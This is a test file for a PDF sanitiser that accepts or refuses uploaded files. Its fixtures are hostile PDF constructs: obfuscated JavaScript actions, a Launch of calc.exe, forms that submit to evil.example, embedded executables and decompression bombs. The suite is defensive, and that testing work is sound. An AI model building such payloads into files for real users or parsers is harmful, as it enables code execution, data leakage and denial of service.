import { readFileSync } from 'node:fs'
import path from 'node:path'
import { constants, deflateRawSync, deflateSync } from 'node:zlib'
import { PDFDocument } from '@cantoo/pdf-lib'
import { PRESCRIPTION_BYTES_MAX } from '@/lib/contract/prescriptions'
import { buildPdf, pdf, pdfWith } from '../testing/files'
import { cleanPdf } from './clean-pdf'
import { RefusedFile } from './refusal'
import { packed, pdfPage, revised, stream } from './testing/pdfs'

const judgePdf = (content: Buffer) =>
  cleanPdf(content, PRESCRIPTION_BYTES_MAX).then(
    () => 'sound',
    (error: unknown) => (error instanceof RefusedFile ? error.code : error),
  )

const SCRIPT = '<< /S /JavaScript /JS (app.alert(1)) >>'
test.each([
  ['a plain file', pdf()],
  ['one that opens on a page', pdfWith('/OpenAction [3 0 R /Fit]')],
  ['one that goes to a page by an action, as LaTeX writes it', pdfWith('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>')],
  ['one with a link', pdfWith('', '<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://salute.gov.it) >> >>')],
  ['one that is signed', pdfWith('/AcroForm << /SigFlags 3 /Fields [] >>')],
  ['one with a compressed object', pdfWith('', packed({ 5: '<< /S /URI >>' }))],
])('%s is sound', async (_, content) => {
  expect(await judgePdf(content)).toBe('sound')
})

test.each([
  ['a script when it is opened', pdfWith(`/OpenAction ${SCRIPT}`)],
  ['a name written in another way', pdfWith('/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>')],
  ['a script in a separate object', pdfWith('/OpenAction 4 0 R', '<< /S /J#61vaScript >>')],
  ['a compressed script', pdfWith('/OpenAction 5 0 R', packed({ 5: SCRIPT }))],
  ['a compressed script that nothing opens', pdfWith('', packed({ 5: '<< /A 1 >>', 6: SCRIPT }))],
  ['scripts by name', pdfWith('/Names << /J#61vaScript << /Names [] >> >>')],
  ['a page opened on the web', pdfWith('/OpenAction << /S /URI /URI (https://evil.example) >>')],
  ['a step after going to a page', pdfWith('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI >> >>')],
  ['a program that it starts', pdfWith('', '<< /S /L#61unch /F (calc.exe) >>')],
  ['something at each turn of a page', pdfWith('/AA << /WC << /S /GoTo >> >>')],
  ['a form that sends itself', pdfWith('', '<< /A [ << /S /SubmitForm /F (https://evil.example) >> ] >>')],
  ['an object that is none', pdfWith('', '<< /S /SubmitForm /F (x) > >')],
  ['a form with scripts', pdfWith('/AcroForm << /XFA 4 0 R >>', '(xdp)')],
])('%s is active', async (_, content) => {
  expect(await judgePdf(content)).toBe('file_active')
})

test.each([
  ['nothing but the first bytes', Buffer.from('%PDF-1.7\n')],
  ['half a file', pdf('x'.repeat(400)).subarray(0, 60)],
  ['no page', buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'])],
])('%s is unreadable', async (_, content) => {
  expect(await judgePdf(content)).toBe('file_unreadable')
})

test('a required password locks a file, a password against changes does not', async () => {
  const locked = await PDFDocument.load(pdf())
  locked.encrypt({ userPassword: 'segreto', ownerPassword: 'segreto' })
  expect(await judgePdf(Buffer.from(await locked.save()))).toBe('file_locked')
  const open = await PDFDocument.load(pdf())
  open.encrypt({ userPassword: '', ownerPassword: 'segreto', permissions: { modifying: false } })
  expect(await judgePdf(Buffer.from(await open.save()))).toBe('sound')
})

const hostile = (name: string) => readFileSync(path.join(__dirname, 'testing', `${name}.pdf`))
const clean = (content: Buffer) => cleanPdf(content, PRESCRIPTION_BYTES_MAX)
const LINK = '<< /Type /Annot /Subtype /Link /Rect [0 0 200 200]'
/** 300 MB of zeros once inflated: zlib's header and one compressed megabyte, 300 times. */
const ZEROS = Buffer.concat([
  Buffer.from([0x78, 0x9c]),
  ...Array(300).fill(deflateRawSync(Buffer.alloc(1_000_000), { finishFlush: constants.Z_FULL_FLUSH })),
])

test.each([
  ['a script under a decoy of the same number', hostile('hidden'), 'file_active'],
  ['a script that a decoy replaces', revised(pdfWith('/OpenAction 4 0 R', SCRIPT), 4, '<< /S /GoTo >>'), 'file_active'],
  ['a compressed script under a decoy', pdfWith('', packed({ 5: SCRIPT }), '<< /S /GoTo >>'), 'file_active'],
  ['two objects of one number', pdfWith('', packed({ 5: '<< /A 1 >>' }), '<< /B 2 >>'), 'file_unreadable'],
  ['a revision that names none before it', revised(pdf(), 4, '<< >>', { prev: false }), 'file_unreadable'],
  ['object streams compressed twice', hostile('bomb'), 'file_too_complex'],
  [
    'an object stream of hundreds of megabytes',
    pdfWith('', stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', ZEROS)),
    'file_too_complex',
  ],
  [
    'the same behind text',
    pdfWith(
      '',
      stream('/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]', `${ZEROS.toString('hex')}>`),
    ),
    'file_too_complex',
  ],
  [
    'a page of hundreds of megabytes',
    pdfPage('/Contents 4 0 R', stream('/Filter /FlateDecode', ZEROS)),
    'file_too_complex',
  ],
  [
    'a page compressed twice',
    pdfPage('/Contents 4 0 R', stream('/Filter [/FlateDecode /FlateDecode]', deflateSync(deflateSync('0 g')))),
    'file_too_complex',
  ],
  [
    'a page of runs in hexadecimal',
    pdfPage('/Contents 4 0 R', stream('/Filter [/ASCIIHexDecode /RunLengthDecode]', `${'8120'.repeat(600_000)}>`)),
    'file_too_complex',
  ],
  [
    'a picture of a million by a million',
    pdfPage(
      '/Resources << /XObject << /A 4 0 R >> >>',
      stream('/Type /XObject /Subtype /Image /Width 1000000 /Height 1000000 /Filter /JPXDecode', 'x'),
    ),
    'file_too_complex',
  ],
  [
    'tens of thousands of objects',
    pdfWith('', packed(Object.fromEntries(Array.from({ length: 60_000 }, (_, index) => [index + 5, 'null'])))),
    'file_too_complex',
  ],
  [
    'pages in a loop',
    buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
    'file_unreadable',
  ],
  ['a filter that nobody knows', pdfPage('/Contents 4 0 R', stream('/Filter /Crypt', '0 g')), 'file_too_complex'],
] as const)('%s is refused', async (_, content, code) => {
  expect(await judgePdf(content)).toBe(code)
})

test.each([
  ['a file elsewhere that a tap opens', hostile('gotor'), 'evil.example'],
  ['a page in another language', hostile('poly'), '<script>'],
  ['an archive behind it', hostile('zip'), 'x.exe'],
  ['a link', pdfPage('/Annots [4 0 R]', `${LINK} /A << /S /URI /URI (https://evil.example) >> >>`), 'evil.example'],
  [
    'a page of an attachment that a tap opens',
    pdfPage('/Annots [4 0 R]', `${LINK} /A << /S /GoToE /T << /R /C /N (evil.example) >> >> >>`),
    'evil.example',
  ],
  [
    'an attachment',
    pdfWith(
      '/Names << /EmbeddedFiles << /Names [(x.exe) 4 0 R] >> >> /AF [4 0 R]',
      '<< /Type /Filespec /F (x.exe) /EF << /F 5 0 R >> >>',
      stream('/Type /EmbeddedFile', 'evil.example'),
    ),
    'evil.example',
  ],
  [
    'an attachment of a page',
    pdfPage(
      '/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (x.exe) /EF << /F 4 0 R >> >> >>]',
      stream('/Type /EmbeddedFile', 'evil.example'),
    ),
    'evil.example',
  ],
  [
    'content in a file elsewhere',
    pdfPage('/Contents 4 0 R', stream('/F << /FS /URL /F (https://evil.example) >> /FFilter /FlateDecode', '')),
    'evil.example',
  ],
  [
    'a form of another document',
    pdfPage(
      '/Resources << /XObject << /Form 4 0 R >> >>',
      stream('/Subtype /Form /BBox [0 0 9 9] /Ref << /F (evil.example) /Page 0 >>', ''),
    ),
    'evil.example',
  ],
  ['fields', pdfWith('/AcroForm << /Fields [<< /T (evil.example) /FT /Tx /V (evil.example) >>] >>'), 'evil.example'],
  [
    'a film',
    pdfPage('/Annots [<< /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (evil.example) >> /A true >>]'),
    'evil.example',
  ],
  ['metadata', pdfWith('/Metadata 4 0 R', stream('/Type /Metadata /Subtype /XML', 'evil.example')), 'evil.example'],
  ['objects of no page', pdf('evil.example'), 'evil.example'],
])('%s is left out', async (_, content, text) => {
  expect(content.toString('latin1')).toContain(text)
  const written = (await clean(content)).toString('latin1')
  expect(written).not.toContain(text)
  expect(written).not.toMatch(/\/(Annots|A|AA|Names|AF|EF|F|AcroForm|Ref|Metadata|OpenAction|Info|URI)\b/)
  expect((await PDFDocument.load(Buffer.from(written, 'latin1'))).getPageCount()).toBe(1)
})

test('keeps visible content: text, size, inherited entries, and appearances of annotations', async () => {
  const document = await PDFDocument.create()
  const page = document.addPage([300, 400])
  page.drawText('Promemoria', { font: await document.embedFont('Helvetica') })
  const name = document.getForm().createTextField('nome')
  name.setText('Anna')
  name.addToPage(page, { x: 20, y: 30, width: 100, height: 20 })
  const written = await clean(Buffer.from(await document.save()))
  const kept = (await PDFDocument.load(written)).getPage(0)
  expect(kept.getSize()).toEqual({ width: 300, height: 400 })
  const text = written.toString('latin1')
  expect(text).toContain('/BaseFont /Helvetica')
  expect(text).toContain('/Appearance0')
  expect(text).not.toContain('/Widget')
})

/** A PDF with one annotation (object 4), and more objects after it. */
const annotated = (annotation: string, { form = '', more = [] as string[] } = {}) =>
  buildPdf([
    `<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] ${form} >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>',
    `<< /Type /Annot ${annotation} >>`,
    ...more,
  ])
const field = (entries: string) => `/Subtype /Widget /Rect [10 10 90 30] ${entries}`
const shown = stream('/Subtype /Form /BBox [0 0 80 20]', '/Tx BMC BT /Helv 9 Tf (Anna) Tj ET EMC')
const blank = stream('/Subtype /Form /BBox [0 0 80 20]', '/Tx BMC EMC')
const drawn = '/AP << /N 5 0 R >>'
const regenerated = '/NeedAppearances true'

test.each([
  ['a text field', annotated(field('/FT /Tx /V (Anna)'))],
  ['a text field in UTF-16', annotated(field('/FT /Tx /V <FEFF0041>'))],
  ['a long text', annotated(field('/FT /Tx /V 5 0 R'), { more: [stream('', 'Anna')] })],
  [
    'a text field with the appearance of a blank one',
    annotated(field(`/FT /Tx /V (Anna) ${drawn}`), { more: [blank] }),
  ],
  [
    'a text field that viewers redraw',
    annotated(field(`/FT /Tx /V (Anna) ${drawn}`), { form: regenerated, more: [shown] }),
  ],
  ['a value in the parent', annotated(field('/Parent 5 0 R'), { more: ['<< /T (nome) /FT /Tx /V (Anna) >>'] })],
  ['a dropdown', annotated(field('/FT /Ch /Ff 131072 /Opt [(A) (B)] /V (B)'))],
  ['a list of several', annotated(field('/FT /Ch /Opt [(A) (B)] /V [(A) (B)]'))],
  ['a checkbox', annotated(field('/FT /Btn /V /Yes /AS /Yes'))],
  [
    'a checkbox whose state has no appearance',
    annotated(field('/FT /Btn /V /Yes /AS /Yes /AP << /N << /Off 5 0 R >> >>'), { more: [blank] }),
  ],
  [
    'a checkbox that is drawn as it was before',
    annotated(field('/FT /Btn /V /Yes /AS /Off /AP << /N << /Yes 5 0 R /Off 6 0 R >> >>'), { more: [shown, blank] }),
  ],
  ['a text on the page', annotated('/Subtype /FreeText /Rect [10 10 90 30] /Contents (Anna)')],
  ['a line through a text', annotated('/Subtype /StrikeOut /Rect [10 10 90 30] /QuadPoints [10 30 90 30 10 10 90 10]')],
  ['ink', annotated('/Subtype /Ink /Rect [10 10 90 30] /InkList [[10 10 90 30]]')],
])('%s that no appearance shows is refused, since it would be lost', async (_, content) => {
  expect(await judgePdf(content)).toBe('file_form')
})

test.each([
  ['an empty text field', annotated(field('/FT /Tx /V ()'))],
  ['a field without a value', annotated(field('/FT /Tx'), { form: regenerated })],
  ['a hidden field', annotated(field('/F 2 /FT /Tx /V (Anna)'))],
  ['a field without an area', annotated('/Subtype /Widget /Rect [0 0 0 0] /FT /Tx /V (Anna)')],
  ['a text field with its appearance', annotated(field(`/FT /Tx /V (Anna) ${drawn}`), { more: [shown] })],
  ['an empty checkbox', annotated(field('/FT /Btn /V /Off /AS /Off'))],
  [
    'another button of a choice',
    annotated(field('/FT /Btn /V /A /AS /Off /AP << /N << /B 5 0 R /Off 6 0 R >> >>'), { more: [shown, blank] }),
  ],
  ['a button', annotated(field('/FT /Btn /Ff 65536'))],
  ['a signature that is not shown', annotated(field('/FT /Sig /V 5 0 R'), { more: ['<< /Type /Sig >>'] })],
  ['a link and a closed note', annotated('/Subtype /Text /Rect [10 10 90 30] /Contents (Anna)')],
])('%s is sound', async (_, content) => {
  expect(await judgePdf(content)).toBe('sound')
})

test('a checkbox without an appearance state is drawn by its value', async () => {
  const content = annotated(field('/FT /Btn /V /Yes /AP << /N << /Yes 5 0 R /Off 6 0 R >> >>'), {
    more: [shown, blank],
  })
  expect((await clean(content)).toString('latin1')).toContain('/Appearance0')
})

test('the last revision of a file that was changed counts', async () => {
  const written = await clean(
    revised(pdfPage('/Contents 4 0 R', stream('', '1 g')), 3, '<< /Type /Page /MediaBox [0 0 77 88] >>'),
  )
  expect((await PDFDocument.load(written)).getPage(0).getSize()).toEqual({ width: 77, height: 88 })
})

test('removes every archive', async () => {
  const archive = 'PK\x05\x06'.padEnd(22, '\0')
  const content = pdfPage(
    '/Resources << /Font << /F << /Type /Font /BaseFont (PK\x05\x06) >> >> >>',
    stream('', archive),
  )
  expect(await judgePdf(content)).toBe('file_unreadable')
  expect((await clean(pdfPage('/Contents 4 0 R', stream('', archive)))).includes('PK\x05\x06')).toBe(false)
})
